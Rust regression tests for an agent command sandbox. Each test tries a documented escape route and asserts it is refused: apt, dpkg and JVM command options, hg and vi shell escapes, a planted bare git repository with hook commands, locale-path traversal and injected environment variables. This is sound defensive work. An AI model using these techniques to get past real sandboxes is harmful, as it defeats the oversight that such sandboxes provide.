        // apt's programs set any line of their configuration from `-o` (`APT::Update::Pre-Invoke`
        // is a command, `Dir::Bin::dpkg` a program) and read a whole file of it from `-c`;
        // dpkg runs the commands of `--pre-invoke`, `--post-invoke` and `--status-logger`.
        other(
            "apt-get",
            s(&[
                "-o",
                &format!("APT::Update::Pre-Invoke::={payload}"),
                "update",
            ]),
        ),
        other(
            "apt-get",
            s(&[
                "-qo",
                &format!("APT::Update::Pre-Invoke::={payload}"),
                "update",
            ]),
        ),
        other(
            "apt-get",
            s(&[
                &format!("--option=APT::Update::Post-Invoke::={payload}"),
                "update",
            ]),
        ),
        other("apt-get", s(&["-c", "apt.conf", "update"])),
        other(
            "dpkg",
            s(&[&format!("--pre-invoke={payload}"), "--configure", "-a"]),
        ),
        other(
            "dpkg",
            s(&["--status-logger", &payload, "--configure", "-a"]),
        ),
        // The JDK's tools hand `-J` options to the JVM that runs them, whose
        // `-XX:OnOutOfMemoryError` is a command (keytool reading the system's certificates in a
        // heap too small for them triggers it at once) and `-javaagent:` code; keytool and
        // jarsigner load a provider's classes from `-providerpath`.
        other(
            "keytool",
            s(&[
                &format!("-J-XX:OnOutOfMemoryError={payload}"),
                "-J-Xms2m",
                "-J-Xmx3m",
                "-J-XX:MaxMetaspaceSize=8m",
                "-list",
                "-cacerts",
            ]),
        ),
        other(
            "keytool",
            s(&[
                "-list",
                "-providerpath",
                ".",
                "-providerclass",
                "Hook",
                "-storetype",
                "x",
            ]),
        ),
        // ... and reads more options from a response file (`@file`), `-wrapper` among them.
        other("gcc", s(&["@gcc-options", "-fsyntax-only", "t.c"])),
        // ssh-keygen loads the PKCS#11 library `-D` names and the security key provider `-w`
        // names (each ran the library's code, in both modes).
        other("ssh-keygen", s(&["-D", "./hook.so"])),
        other("ssh-keygen", s(&["-lD./hook.so"])),
        other(
            "ssh-keygen",
            s(&["-t", "ed25519-sk", "-w", "./hook.so", "-f", "key", "-N", ""]),
        ),
        other(
            "ssh-keygen",
            s(&["-qt", "ed25519-sk", "-w./hook.so", "-f", "key", "-N", ""]),
        ),
        // sftp runs the program `-D` names, split into its words, as its local server.
        other("sftp", s(&["-D", &format!("sh -c '{payload}'"), "h"])),
        other("sftp", s(&["-qD", &format!("sh -c '{payload}'"), "h"])),
        // Mercurial: `--config` sets any line of its configuration (an alias that is a shell
        // command, a hook), `--debugger` and `debugshell` read Python from the standard input,
        // `serve --cmdserver pipe` takes commands there (with their own `--config`), by any
        // prefix of the command, and `-e`/`--ssh` is the command line a remote is reached
        // through.
        other("hg", s(&["--config", &alias, "x"])),
        other(
            "hg",
            s(&[&format!("--config=hooks.pre-version={payload}"), "version"]),
        ),
        serde_json::json!({"binary": "hg", "args": ["debugsh"],
            "stdin": format!("import os\nos.system('''{payload}''')\n")}),
        serde_json::json!({"binary": "hg", "args": ["--debugger", "version"],
            "stdin": format!("!import os; os.system('''{payload}''')\nc\n")}),
        serde_json::json!({"binary": "hg", "args": ["serve", "--cmdserver", "pipe"],
            "stdin": frame(&["--config", &alias, "x"])}),
        serde_json::json!({"binary": "hg", "args": ["se", "--cmdserver", "pipe"],
            "stdin": frame(&["--config", &alias, "x"])}),
        other(
            "hg",
            s(&["identify", "-e", &format!("{payload};"), "ssh://h/x"]),
        ),
        other("hg", s(&["id", &format!("--ss={payload};"), "ssh://h/x"])),
        other(
            "hg",
            s(&["clone", "-qe", &format!("{payload};"), "ssh://h/x", "d"]),
        ),
        // pygmentize loads a lexer or a formatter from a Python file with `-x`.
        other("pygmentize", s(&["-l", "lexer.py:L", "-x", "a.txt"])),
        other("pygmentize", s(&["-xl", "lexer.py:L", "a.txt"])),
        other("pygmentize", s(&["-x", "-f", "lexer.py:F", "a.txt"])),
        // Subversion: `--config-option` sets any line of its configuration (a tunnel is the
        // command an `svn+name://` address is reached through), `--config-dir` a directory of
        // it, and `--diff-cmd` and `--editor-cmd` are programs; svnrdump reads the same.
        other(
            "svn",
            s(&[
                "--config-option",
                &format!("config:tunnels:{tunnel}"),
                "ls",
                "svn+x://h/r",
            ]),
        ),
        other(
            "svn",
            s(&[
                "ls",
                &format!("--config-option=config:tunnels:{tunnel}"),
                "svn+x://h/r",
            ]),
        ),
        other("svn", s(&["ls", "--config-dir", "svncfg", "svn+x://h/r"])),
        other(
            "svn",
            s(&["diff", "--diff-cmd", "sh", "-x", "run.sh", "wc"]),
        ),
        other(
            "svn",
            s(&[
                "propedit",
                "svn:ignore",
                "wc",
                "--editor-cmd",
                &format!("sh {}", script.display()),
            ]),
        ),
        other(
            "svnrdump",
            s(&[
                "dump",
                "--config-option",
                &format!("config:tunnels:{tunnel}"),
                "svn+x://h/r",
            ]),
        ),
    ];
    for mode in MODES {
        for call in &cases {
            let out = env.run_command(mode, &p, call);
            let stdout = String::from_utf8_lossy(&out.stdout);
            assert_eq!(out.status.code(), Some(1), "{mode:?} {call}: {stdout}");
            assert!(
                stdout.contains("ARGS_NOT_ALLOWED"),
                "{mode:?} {call}: {stdout}"
            );
            nothing_ran(&out, &marker, &format!("{mode:?} {call}"));
        }
    }
    // What the same programs are asked every day still runs: a checkpoint without an action,
    // a value that happens to hold the letters, an archive listed.
    std::fs::write(w.join("a.txt"), "alpha").unwrap();
    for call in [
        tar(s(&["-cf", "kept.tar", "--checkpoint=1", "a.txt"])),
        tar(s(&["-tvf", "kept.tar"])),
        git(s(&["--version"])),
        other("wget", s(&["-e", "robots=off", "--version"])),
        other("hg", s(&["--debug", "version", "-q"])),
        other("hg", s(&["--encoding", "utf-8", "version", "-q"])),
        other("svn", s(&["diff", "wc"])),
        other("svn", s(&["status", "-v", "wc"])),
        other("pygmentize", s(&["-l", "text", "-P", "x=y", "a.txt"])),
    ] {
        let call_text = call.to_string();
        let out = env.toolcap(&["call", "--personality", &p, "run_command", &call_text]);
        let stdout = String::from_utf8_lossy(&out.stdout);
        assert_eq!(out.status.code(), Some(0), "{call}: {stdout}");
    }
}

// guarantee: G-PROC-03
/// A call may name an allowed program by another name for the same file (its canonical path,
/// the versioned name a link leads to: `gcc` is `x86_64-linux-gnu-gcc-12` here), and the child
/// runs under the allowed name; the options that run a program, the personality's `deny_args`
/// and its `escalate` patterns were read against the name the call used and the file's own
/// name, so `x86_64-linux-gnu-gcc-12 -wrapper sh,-c,…` ran the payload where `gcc -wrapper` is
/// refused. Each is now read against the allowed name as well.
#[test]
fn a_program_asked_for_by_another_name_is_held_to_its_rules() {
    let env = Env::new("");
    let w = env.root.join("work");
    let marker = w.join("out/pwned");
    let payload = payload(&marker);
    let hook = hook_library(&w);
    std::fs::write(w.join("t.c"), "int main(void) { return 0; }\n").unwrap();
    let canonical = |name: &str| {
        std::fs::canonicalize(Path::new("/usr/bin").join(name))
            .unwrap()
            .display()
            .to_string()
    };
    let (gcc, nm) = (canonical("gcc"), canonical("nm"));
    let p = env.personality(
        "aliases.toml",
        &format!(
            "id = \"aliases\"\n[fs_reach]\nread = [\"{w}\"]\n[safety.process]\n\
             allow = [\"gcc\", \"nm\"]\ndeny_args = [\"nm --defined-only\"]\n\
             [escalate]\nargs = [\"gcc -S\"]\n",
            w = w.display()
        ),
    );
    let name_of = |path: &str| {
        Path::new(path)
            .file_name()
            .unwrap()
            .to_str()
            .unwrap()
            .to_owned()
    };
    for binary in [gcc.clone(), name_of(&gcc)] {
        let call = serde_json::json!({"binary": binary, "cwd": w,
            "args": ["-wrapper", format!("sh,-c,{payload}"), "-fsyntax-only", "t.c"]});
        for mode in MODES {
            let out = env.run_command(mode, &p, &call);
            nothing_ran(&out, &marker, &format!("{mode:?} {call}"));
            let stdout = String::from_utf8_lossy(&out.stdout);
            assert!(
                stdout.contains("ARGS_NOT_ALLOWED"),
                "{mode:?} {call}: {stdout}"
            );
        }
    }
    for (args, says) in [
        (
            vec![
                "--plugin".to_owned(),
                hook.display().to_string(),
                "t.c".to_owned(),
            ],
            "--plugin",
        ),
        (
            vec!["--defined-only".to_owned(), "t.c".to_owned()],
            "nm --defined-only",
        ),
    ] {
        for binary in [nm.clone(), name_of(&nm)] {
            let call = serde_json::json!({"binary": binary, "cwd": w, "args": args});
            for mode in MODES {
                let out = env.run_command(mode, &p, &call);
                nothing_ran(&out, &marker, &format!("{mode:?} {call}"));
                let stdout = String::from_utf8_lossy(&out.stdout);
                assert!(
                    stdout.contains("ARGS_NOT_ALLOWED") && stdout.contains(says),
                    "{mode:?} {call}: {stdout}"
                );
            }
        }
    }
    // An `escalate` pattern asks for approval whatever the name: with none given, refused.
    let call = serde_json::json!({"binary": name_of(&gcc), "cwd": w,
        "args": ["-S", "-o", "-", "t.c"]});
    for mode in MODES {
        let out = env.run_command(mode, &p, &call);
        let stdout = String::from_utf8_lossy(&out.stdout);
        assert!(
            stdout.contains("ARGS_NOT_ALLOWED") && stdout.contains("approv"),
            "{mode:?} {call}: {stdout}"
        );
    }
    // The allowed names themselves still run what is not refused.
    let call = serde_json::json!({"binary": name_of(&gcc), "cwd": w,
        "args": ["-fsyntax-only", "t.c"]});
    let out = env.run_command(&[], &p, &call);
    let result: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(result["value"]["exit_code"], 0, "{result}");
}

// guarantee: G-PROC-02
/// A repository an agent clones can carry a directory laid out as a bare repository (`HEAD`,
/// `config`, `objects`, `refs` are ordinary files in a tree), whose configuration names a
/// program (`core.fsmonitor`, an alias `!cmd`, `core.alternateRefsCommand`); git run in that
/// directory takes it as a repository and runs the program. Every child's git is told to use
/// only the repositories it is pointed at (`safe.bareRepository=explicit`), so it refuses the
/// planted one and runs nothing. A call cannot point git at it either: `--git-dir` and `--bare`
/// before git's command, and the server side of a push (`receive-pack`, `send-pack`), are
/// refused, and a child's git has no local transport (`protocol.file.allow=never`), by which
/// `git push ./vendor/evil.git` ran the planted repository's `core.alternateRefsCommand` as
/// it advertised its references.
#[test]
fn a_bare_repository_planted_in_the_workspace_runs_nothing() {
    let env = Env::new("");
    let w = env.root.join("work");
    let planted = w.join("vendor/evil.git");
    let git = |args: &[&str]| {
        let status = Command::new("git")
            .args(args)
            .env("GIT_CONFIG_GLOBAL", "/dev/null")
            .status()
            .unwrap();
        assert!(status.success(), "git {args:?}");
    };
    let planted_text = planted.display().to_string();
    git(&["init", "-q", "--bare", &planted_text]);
    // An alternate whose references the planted command is asked for when a push advertises.
    let other = w.join("vendor/other.git");
    git(&["init", "-q", "--bare", &other.display().to_string()]);
    std::fs::write(
        planted.join("objects/info/alternates"),
        format!("{}\n", other.join("objects").display()),
    )
    .unwrap();
    let marker = env.root.join("work/out/pwned");
    let ran = format!(
        "echo planted-fsmonitor-ran >&2; touch {}; false",
        marker.display()
    );
    for (key, value) in [
        ("core.bare", "false".to_owned()),
        ("core.worktree", w.display().to_string()),
        ("core.fsmonitor", ran.clone()),
        ("alias.pwn", format!("!{ran}")),
        ("core.alternateRefsCommand", ran.clone()),
    ] {
        git(&["-C", &planted_text, "config", key, &value]);
    }
    // A repository of the user's own, which pushes.
    let own = w.join("own");
    let own_text = own.display().to_string();
    git(&["init", "-q", &own_text]);
    git(&[
        "-C",
        &own_text,
        "-c",
        "user.name=a",
        "-c",
        "user.email=a@b",
        "commit",
        "-q",
        "--allow-empty",
        "-m",
        "x",
    ]);
    let p = env.personality(
        "git.toml",
        &format!(
            "id = \"git\"\n[fs_reach]\nread = [\"{w}\"]\nwrite = [\"{w}/out\"]\n\
             [safety.process]\nallow = [\"git\"]\n",
            w = w.display()
        ),
    );
    // The child's git refuses it, found from the working directory or reached by a push to its
    // path, saying so, and nothing runs.
    let refuses = |call: Value, says: &str| {
        for mode in MODES {
            let out = env.run_command(mode, &p, &call);
            let result: Value = serde_json::from_slice(&out.stdout).unwrap();
            let stderr = result["value"]["stderr"].as_str().unwrap_or_default();
            assert!(
                !printed(&out).contains("planted-fsmonitor-ran"),
                "{mode:?} {call}: {result}"
            );
            assert!(stderr.contains(says), "{mode:?} {call}: {result}");
            assert!(!marker.exists(), "{mode:?} {call}: the planted program ran");
        }
    };
    refuses(
        serde_json::json!({"binary": "git", "args": ["status"], "cwd": planted}),
        "cannot use bare repository",
    );
    // Named by the call: refused before the child starts.
    let named = [
        (serde_json::json!(["--git-dir=vendor/evil.git", "pwn"]), &w),
        (
            serde_json::json!(["--git-dir", "vendor/evil.git", "status"]),
            &w,
        ),
        (
            serde_json::json!(["-C", "vendor/evil.git", "--bare", "pwn"]),
            &w,
        ),
        (serde_json::json!(["--bare", "pwn"]), &planted),
        (serde_json::json!(["receive-pack", "vendor/evil.git"]), &w),
        (
            serde_json::json!(["send-pack", "../vendor/evil.git", "HEAD"]),
            &own,
        ),
    ];
    for mode in MODES {
        for (args, cwd) in &named {
            let call = serde_json::json!({"binary": "git", "args": args, "cwd": cwd,
                "stdin": "0000"});
            let out = env.run_command(mode, &p, &call);
            let stdout = String::from_utf8_lossy(&out.stdout);
            assert!(
                stdout.contains("ARGS_NOT_ALLOWED"),
                "{mode:?} {args}: {stdout}"
            );
            assert!(
                !printed(&out).contains("planted-fsmonitor-ran"),
                "{mode:?} {args}"
            );
            assert!(!marker.exists(), "{mode:?} {args}: the planted program ran");
        }
    }
    // A push to it by its path: git refuses the local transport.
    for target in [
        "../vendor/evil.git".to_owned(),
        format!("file://{planted_text}"),
    ] {
        refuses(
            serde_json::json!({"binary": "git", "cwd": own,
                "args": ["push", "--dry-run", target, "HEAD:refs/heads/x"]}),
            "transport 'file' not allowed",
        );
    }
    // What asks about the repository, and the user's own repository, still work.
    for args in [
        serde_json::json!(["rev-parse", "--git-dir"]),
        serde_json::json!(["-C", ".", "log", "--oneline"]),
    ] {
        let call = serde_json::json!({"binary": "git", "args": args, "cwd": own});
        let out = env.run_command(&[], &p, &call);
        let result: Value = serde_json::from_slice(&out.stdout).unwrap();
        assert_eq!(result["value"]["exit_code"], 0, "{args}: {result}");
    }
}

// guarantee: G-PROC-02
/// Programs start an editor for a message or a configuration, and with no editor set they
/// start `vi`, which reads its keys from the call's `stdin` when that is not a terminal: `:!cmd`
/// runs any program the sandbox lets the child execute. `TERM` is a variable every call may
/// set, and `git config --global --edit` or `npm config edit` needs no write reach (the file
/// edited is in the child's own home), so a personality allowing `git` with a reach to read
/// only ran the payload, and so did one allowing `npm`. Every child has `EDITOR` and `VISUAL`
/// set to `false`, and its git `core.editor` and `sequence.editor` (command-line configuration
/// no repository can override): an edit fails and nothing runs.
#[test]
fn no_child_starts_an_editor_a_call_can_type_into() {
    assert!(
        Command::new("vi").arg("--version").output().is_ok(),
        "vi is installed (.ci/run installs it), so the editor route is really tried"
    );
    let env = Env::new("");
    let w = env.root.join("work");
    let marker = w.join("out/pwned");
    let p = env.personality(
        "editors.toml",
        &format!(
            "id = \"editors\"\n[fs_reach]\nread = [\"{w}\"]\n[safety.process]\n\
             allow = [\"git\", \"npm\"]\n",
            w = w.display()
        ),
    );
    let keys = format!(":!{}\n:q!\n", payload(&marker));
    let edits = [
        serde_json::json!({"binary": "git", "args": ["config", "--global", "--edit"],
            "cwd": w, "env": {"TERM": "xterm"}, "stdin": keys}),
        serde_json::json!({"binary": "npm", "args": ["config", "edit"],
            "cwd": w, "env": {"TERM": "xterm"}, "stdin": keys}),
    ];
    let editor = serde_json::json!({"binary": "git", "args": ["var", "GIT_EDITOR"], "cwd": w});
    for mode in MODES {
        for edit in &edits {
            let out = env.run_command(mode, &p, edit);
            nothing_ran(&out, &marker, &format!("{mode:?} {edit}"));
        }
        let out = env.run_command(mode, &p, &editor);
        let result: Value = serde_json::from_slice(&out.stdout).unwrap();
        assert_eq!(
            result["value"]["stdout"].as_str().map(str::trim),
            Some("false"),
            "{mode:?}: {result}"
        );
    }
}

// guarantee: G-PROC-02
/// A message catalog is code's format strings: a program prints its translated messages
/// through `printf`, so a catalog of the call's choosing makes `%n` write memory in an allowed
/// program. `LANG` and `LANGUAGE` are variables every call may set, and gettext reads
/// `LANGUAGE` as a directory beneath `/usr/share/locale` with no check for `..`: `ls`, given
/// `LANGUAGE=../../../<reach>/xx`, printed its error through a catalog in its write reach
/// (and with `%p %p %s` in it, died of `SIGSEGV`). A locale variable's value names a locale,
/// never a place: a call's value with a `/` in it is `ENV_NOT_ALLOWED`, and nothing is loaded.
/// `TZ` is held to the same: a zone of the system's database or a rule, never a zone file a
/// call planted (`date` read one from the reach, by `..` or by its absolute path), which the
/// C library parses as it loads.
#[test]
fn a_call_cannot_point_a_program_at_locale_or_zone_data_of_its_choosing() {
    let env = Env::new("");
    let w = env.root.join("work");
    let p = env.personality(
        "locale.toml",
        &format!(
            "id = \"locale\"\n[fs_reach]\nread = [\"{w}\"]\nwrite = [\"{w}/out\"]\n\
             [safety.process]\nallow = [\"ls\", \"date\"]\n",
            w = w.display()
        ),
    );
    let planted = w.join("out/xx");
    std::fs::create_dir_all(planted.join("LC_MESSAGES")).unwrap();
    std::fs::write(
        planted.join("LC_MESSAGES/coreutils.mo"),
        message_catalog(&[("cannot access %s", "PLANTED-CATALOG %s")]),
    )
    .unwrap();
    let up = format!("../../..{}", planted.display());
    // A zone whose abbreviation no zone the tests pick shows: Tokyo's.
    let zone = w.join("out/zone");
    std::fs::copy("/usr/share/zoneinfo/Asia/Tokyo", &zone).unwrap();
    let zone_up = format!("../../..{}", zone.display());
    let ls = |vars: Value| (vars, "ls", vec!["missing-file"], "PLANTED-CATALOG");
    let date = |vars: Value| (vars, "date", vec!["+%Z"], "JST");
    let refused = [
        ls(serde_json::json!({"LANG": "C.UTF-8", "LANGUAGE": up})),
        ls(serde_json::json!({"LANG": "C.UTF-8", "LANGUAGE": format!("fr:{up}:en")})),
        ls(serde_json::json!({"LC_ALL": "C.UTF-8", "LANGUAGE": up})),
        ls(serde_json::json!({"LANG": up, "LANGUAGE": up})),
        ls(serde_json::json!({"LC_MESSAGES": planted})),
        ls(serde_json::json!({"LANG": planted})),
        date(serde_json::json!({"TZ": zone_up})),
        date(serde_json::json!({"TZ": format!(":{zone_up}")})),
        date(serde_json::json!({"TZ": zone})),
        date(serde_json::json!({"TZ": format!("/usr/share/zoneinfo/../../..{}", zone.display())})),
    ];
    for mode in MODES {
        for (vars, binary, args, mark) in &refused {
            let call = serde_json::json!({"binary": binary, "args": args, "cwd": w,
                "env": vars, "timeout_ms": 20_000});
            let out = env.run_command(mode, &p, &call);
            let everything = printed(&out);
            assert!(
                !everything.contains(mark),
                "{mode:?} {vars}: the planted data was used: {everything}"
            );
            let result: Value = serde_json::from_slice(&out.stdout)
                .unwrap_or_else(|e| panic!("{mode:?} {vars}: {e}: {everything}"));
            let error = result["error"].as_str().unwrap_or_default();
            assert!(
                error.starts_with("ENV_NOT_ALLOWED")
                    && (error.contains("names a locale") || error.contains("zone")),
                "{mode:?} {vars}: {result}"
            );
        }
        // Locales and zones as they are named still work: the message is the catalog's of the
        // language, where the machine has one, or the original; the zones are the database's
        // or a rule.
        let call = serde_json::json!({"binary": "ls", "args": ["missing-file"], "cwd": w,
            "env": {"LANG": "C.UTF-8", "LANGUAGE": "fr_FR@euro:de", "LC_TIME": "C"},
            "timeout_ms": 20_000});
        let out = env.run_command(mode, &p, &call);
        let result: Value = serde_json::from_slice(&out.stdout).unwrap();
        assert!(
            result["value"]["exit_code"] == 2
                && result["value"]["stderr"]
                    .as_str()
                    .is_some_and(|e| e.contains("'missing-file'")),
            "{mode:?}: {result}"
        );
        for (tz, shown) in [
            ("Asia/Tokyo", "JST"),
            (":/usr/share/zoneinfo/Asia/Tokyo", "JST"),
            ("EST5EDT,M3.2.0/2,M11.1.0/2", "E"),
            ("UTC", "UTC"),
        ] {
            let call = serde_json::json!({"binary": "date", "args": ["+%Z"], "cwd": w,
                "env": {"TZ": tz}, "timeout_ms": 20_000});
            let out = env.run_command(mode, &p, &call);
            let result: Value = serde_json::from_slice(&out.stdout).unwrap();
            assert!(
                result["value"]["stdout"]
                    .as_str()
                    .is_some_and(|o| o.starts_with(shown)),
                "{mode:?} {tz}: {result}"
            );
        }
    }
}

/// Writes beneath `prefix`, as `PYTHONPYCACHEPREFIX` lays them out, the compiled form of the
/// system Python's module `module` with `shell` run before its own code, stamped with its
/// source's time and size so that Python takes it for the module's own cache. Returns `prefix`.
fn planted_bytecode(prefix: &Path, module: &str, shell: &str) -> String {
    let script = format!(
        "import importlib.util, importlib._bootstrap_external as b, os, sys\n\
         sys.pycache_prefix = {prefix:?}\n\
         src = importlib.util.find_spec({module:?}).origin\n\
         st = os.stat(src)\n\
         code = compile('import os\\nos.system(' + repr({shell:?}) + ')\\n' + open(src).read(), src, 'exec')\n\
         target = importlib.util.cache_from_source(src)\n\
         os.makedirs(os.path.dirname(target), exist_ok=True)\n\
         open(target, 'wb').write(bytes(b._code_to_timestamp_pyc(code, int(st.st_mtime), st.st_size)))\n",
        prefix = prefix.display().to_string(),
    );
    let made = Command::new("/usr/bin/python3")
        .arg("-c")
        .arg(script)
        .output()
        .unwrap();
    assert!(
        made.status.success(),
        "the system Python compiles the planted module: {}",
        String::from_utf8_lossy(&made.stderr)
    );
    prefix.display().to_string()
}

/// A GNU message catalog (`.mo`, as `msgfmt` writes it) translating each `(original,
/// translation)` of `messages`, with a header that says UTF-8. No hash table: gettext then
/// looks the original up by bisection, so the originals are sorted here.
fn message_catalog(messages: &[(&str, &str)]) -> Vec<u8> {
    let mut entries: Vec<(&str, &str)> = vec![("", "Content-Type: text/plain; charset=UTF-8\n")];
    entries.extend_from_slice(messages);
    entries.sort_unstable();
    let count = u32::try_from(entries.len()).unwrap();
    let header = 28;
    let originals = header;
    let translations = originals + 8 * count;
    let mut strings = translations + 8 * count;
    let mut out = Vec::new();
    for word in [
        0x9504_12de_u32,
        0,
        count,
        originals,
        translations,
        0,
        strings,
    ] {
        out.extend_from_slice(&word.to_le_bytes());
    }
    let mut text = Vec::new();
    let originals = entries.iter().map(|e| e.0);
    let translations = entries.iter().map(|e| e.1);
    for s in originals.chain(translations) {
        let len = u32::try_from(s.len()).unwrap();
        out.extend_from_slice(&len.to_le_bytes());
        out.extend_from_slice(&strings.to_le_bytes());
        text.extend_from_slice(s.as_bytes());
        text.push(0);
        strings += len + 1;
    }
    out.extend_from_slice(&text);
    out
}

// guarantee: G-PROC-02
/// Variables that carry a program's options or point it at another program are the options
/// themselves: `TAR_OPTIONS` holds tar's (`--to-command`), `ZIP` zip's (`-TT`), `MAVEN_OPTS`
/// the JVM's (`-XX:OnOutOfMemoryError`), `LESS` and `LESSKEYIN` less's (a key file that sets
/// `LESSOPEN`), `MANROFFOPT` groff's (`-U`),
/// `RIPGREP_CONFIG_PATH` names a file of ripgrep's (`--pre`), `PYTHONPYCACHEPREFIX` where Python
/// takes a program's compiled modules from, `GIT_TEST_FSMONITOR` names a program
/// `git status` runs, `GIT_COMMON_DIR` takes a repository's hooks and configuration from
/// elsewhere, `HGRCPATH` names Mercurial's configuration (a hook), and `BASH_FUNC_<name>%%`
/// replaces a command bash runs. With a personality that
/// listed one in `safety.env.allow`, the real tar and git ran the payload; such a personality
/// is now refused when it loads, naming the field, and nothing runs.
#[test]
fn a_variable_that_carries_a_programs_options_cannot_be_allowed() {
    let env = Env::new("");
    let w = env.root.join("work");
    let marker = w.join("out/pwned");
    let touch = payload(&marker);
    std::fs::write(w.join("a.txt"), "alpha").unwrap();
    let archive = Command::new("tar")
        .args(["-cf", "a.tar", "a.txt"])
        .current_dir(&w)
        .status()
        .unwrap();
    assert!(archive.success());
    let zipped = Command::new("zip")
        .args(["-q", "a.zip", "a.txt"])
        .current_dir(&w)
        .status()
        .unwrap();
    assert!(zipped.success());
    // Each ran the payload's `echo` and `touch`, which no personality here allows, before the
    // fix (the child's write reach then kept the marker from being made; the mark came back in
    // the result).
    let cases = [
        (
            "TAR_OPTIONS",
            format!("--to-command={}", touch.replace(' ', "\\ ")),
            "tar",
            vec!["-xf", "a.tar"],
        ),
        ("GIT_TEST_FSMONITOR", touch.clone(), "git", vec!["status"]),
        (
            "BASH_FUNC_ls%%",
            format!("() {{ {touch}; }}"),
            "bash",
            vec!["-c", "ls"],
        ),
        (
            "GIT_COMMON_DIR",
            env.root.join("outside").display().to_string(),
            "git",
            vec!["status"],
        ),
        // Info-ZIP's zip reads its options from `ZIP` as from `ZIPOPT`: `-TT` names the
        // command that tests the archive (`-T`, refused on the command line, is accepted
        // there).
        ("ZIP", format!("-T -TT \"{touch} #\""), "zip", vec!["a.zip"]),
        // Maven hands `MAVEN_OPTS` to the JVM, whose `-XX:OnOutOfMemoryError` is a command it
        // runs through `sh -c` (with a heap too small for Maven, at once; `${IFS}` for the
        // spaces the launcher's word splitting would take).
        (
            "MAVEN_OPTS",
            format!(
                "-Xmx3m -XX:OnOutOfMemoryError={}",
                touch.replace(' ', "${IFS}")
            ),
            "mvn",
            vec!["--version"],
        ),
        // less reads its options from `LESS`, and a key file (whose `#env` section sets
        // `LESSOPEN`, a command it runs) from `LESSKEYIN`.
        (
            "LESS",
            format!("--lesskey-src={}", w.join("keys").display()),
            "less",
            vec!["a.txt"],
        ),
        (
            "LESSKEYIN",
            w.join("keys").display().to_string(),
            "less",
            vec!["a.txt"],
        ),
        // man hands `MANROFFOPT` to groff, whose `-U` runs the `.sy` requests of a page.
        ("MANROFFOPT", "-U".to_owned(), "man", vec!["-l", "page.1"]),
        // ripgrep reads its options from the file `RIPGREP_CONFIG_PATH` names: `--pre=sh` runs
        // each file searched as a shell script.
        (
            "RIPGREP_CONFIG_PATH",
            w.join("rgrc").display().to_string(),
            "rg",
            vec!["RAN", "script.sh"],
        ),
        // Python takes the compiled modules of every program it runs from beneath
        // `PYTHONPYCACHEPREFIX`, and a compiled module is trusted whole when it names its
        // source's time and size: a system program written in Python (pygmentize) ran the
        // bytecode planted there.
        (
            "PYTHONPYCACHEPREFIX",
            planted_bytecode(&w.join("pycache"), "pygments", &touch),
            "pygmentize",
            vec!["-l", "text", "a.txt"],
        ),
        // ssh-keygen, ssh and ssh-add load the security key provider `SSH_SK_PROVIDER` names
        // when a key is made or used.
        (
            "SSH_SK_PROVIDER",
            hook_library(&w).display().to_string(),
            "ssh-keygen",
            vec!["-t", "ed25519-sk", "-f", "key", "-N", ""],
        ),
        // Mercurial reads its configuration from the files `HGRCPATH` lists, a hook among it.
        (
            "HGRCPATH",
            w.join("hgrc").display().to_string(),
            "hg",
            vec!["version", "-q"],
        ),
    ];
    std::fs::write(w.join("hgrc"), format!("[hooks]\npre-version = {touch}\n")).unwrap();
    std::fs::write(w.join("rgrc"), "--pre=sh\n").unwrap();
    std::fs::write(w.join("page.1"), format!(".TH X 1\n.sy {touch}\nhello\n")).unwrap();
    std::fs::write(w.join("keys"), format!("#env\nLESSOPEN=|{touch}; cat %s\n")).unwrap();
    std::fs::write(w.join("script.sh"), format!("{touch}\n")).unwrap();
    for (name, value, binary, args) in cases {
        let p = env.personality(
            "variable.toml",
            &format!(
                "id = \"variable\"\n[fs_reach]\nread = [\"{w}\", \"{r}\"]\nwrite = [\"{w}\"]\n\
                 [safety.process]\nallow = [\"{binary}\"]\n[safety.env]\nallow = [\"{name}\"]\n",
                w = w.display(),
                r = env.root.display(),
            ),
        );
        let call = serde_json::json!({"binary": binary, "args": args, "cwd": w,
            "env": {name: value}});
        refused_at_load(&env, &p, &call, name, &marker);
    }
}

// guarantee: G-PROC-02
/// Variables that make a library an allowed program links load code of the caller's choosing
/// are hooks as much as `LD_PRELOAD`: `OPENSSL_CONF` names a configuration whose provider
/// section loads a shared object, and curl (through OpenSSL) loads it before it does anything
/// else; Kerberos, SASL, GnuPG and the interpreters' start-up variables do the same for the
/// programs that read them. With a personality listing `OPENSSL_CONF` in `safety.env.allow`,
/// the real curl loaded a library written into the write reach, whose constructor printed the
/// payload's mark, in both modes; such a personality is now refused when it loads, naming the
/// field, and nothing runs.
#[test]
fn a_library_hook_variable_cannot_be_allowed() {
    let env = Env::new("");
    let w = env.root.join("work");
    let out_dir = w.join("out");
    let library = hook_library(&out_dir);
    let config = out_dir.join("openssl.cnf");
    std::fs::write(&config, openssl_config_loading(&library)).unwrap();
    // The control: outside toolcap, curl linked with OpenSSL loads the library and its
    // constructor prints the mark. (A curl built with another TLS library reads no
    // `OPENSSL_CONF`; then there is nothing to show, and the refusals below still hold.)
    let version = Command::new("curl").arg("--version").output().unwrap();
    if String::from_utf8_lossy(&version.stdout).contains("OpenSSL/") {
        let control = Command::new("curl")
            .arg("--version")
            .env("OPENSSL_CONF", &config)
            .output()
            .unwrap();
        assert!(
            String::from_utf8_lossy(&control.stderr).contains(RAN),
            "the control: curl loads the library {control:?}"
        );
    }
    for name in [
        "OPENSSL_CONF",
        "OPENSSL_MODULES",
        "KRB5_CONFIG",
        "SASL_PATH",
        "GNUPGHOME",
    ] {
        let p = env.personality(
            "hook.toml",
            &format!(
                "id = \"hook\"\n[fs_reach]\nread = [\"{w}\"]\nwrite = [\"{w}/out\"]\n\
                 [safety.process]\nallow = [\"curl\"]\n[safety.env]\nallow = [\"{name}\"]\n",
                w = w.display(),
            ),
        );
        let value = if name == "OPENSSL_CONF" {
            config.display().to_string()
        } else {
            out_dir.display().to_string()
        };
        let call = serde_json::json!({"binary": "curl", "args": ["--version"], "cwd": w,
            "env": {name: value}});
        refused_at_load(&env, &p, &call, name, &out_dir.join("no-marker"));
    }
}

// guarantee: G-POL-03
/// Class 2: reach roots and deny rules are matched where they really lead. A root that is a
/// link to `/proc` is a load error; a link to a directory does not get around a deny rule that
/// names the real place, nor a link to the home directory around the floor's `.ssh`, nor a link
/// to `/etc` around `/etc/shadow`.
#[test]
fn symbolic_links_in_a_policy_lead_nowhere_new() {
    let env = Env::new("");
    let r = env.root.clone();
    std::fs::create_dir_all(r.join("real")).unwrap();
    std::fs::write(r.join("real/secret.txt"), canary()).unwrap();
    std::fs::write(r.join("real/notes.md"), "notes").unwrap();
